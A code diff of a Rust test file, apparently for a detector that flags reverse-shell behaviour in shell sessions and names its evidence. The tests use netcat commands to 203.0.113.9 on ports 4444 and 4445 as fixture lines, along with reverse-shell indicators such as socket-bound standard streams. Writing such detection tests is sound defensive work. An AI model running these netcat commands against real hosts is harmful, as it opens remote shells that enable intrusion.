@@ -28,7 +28,7 @@ fn the_parts_that_the_model_reads_are_named_and_no_others() {
             "argument -i",
             "connects to 203.0.113.9:4444 (tcp)",
             "parent process python3.11 /srv/www/app.py",
-            "standard input is a socket",
+            "standard input, output and error are each a socket",
         ]
     );
 }
@@ -101,6 +101,28 @@ fn evidence_that_is_there_twice_is_still_named() {
 }
 
 #[test]
+fn two_lines_of_a_session_that_say_the_same_are_both_found() {
+    let twice = ByHand {
+        words: &[(Field::Command, "nc", 9.0)],
+        ..ByHand::default()
+    };
+    let mut lines = vec!["ls -la".to_owned(); 12];
+    lines[3] = "nc 203.0.113.9 4444".to_owned();
+    lines[11] = "nc 203.0.113.9 4445".to_owned();
+    let session = cordon_behavior::story::Story {
+        id: "s".into(),
+        session: lines,
+        ..Default::default()
+    };
+    let verdict = twice.judge(Options::default()).judge(&session, None);
+    let named = texts(&verdict);
+    assert_eq!(named.len(), 2, "{named:?}");
+    for line in ["nc 203.0.113.9 4444", "nc 203.0.113.9 4445"] {
+        assert!(named.iter().any(|text| text.contains(line)), "{named:?}");
+    }
+}
+
+#[test]
 fn a_score_that_probability_cannot_tell_from_one_has_reasons() {
     let sure = ByHand {
         bias: 12.0,
@@ -111,7 +133,10 @@ fn a_score_that_probability_cannot_tell_from_one_has_reasons() {
         .judge(Options::default())
         .judge(&shell("s", "203.0.113.9", 4444), None);
     let named = texts(&verdict);
-    assert!(named.contains(&"standard input is a socket"), "{named:?}");
+    assert!(
+        named.contains(&"standard input, output and error are each a socket"),
+        "{named:?}"
+    );
     assert!(
         named.contains(&"connects to 203.0.113.9:4444 (tcp)"),
         "{named:?}"
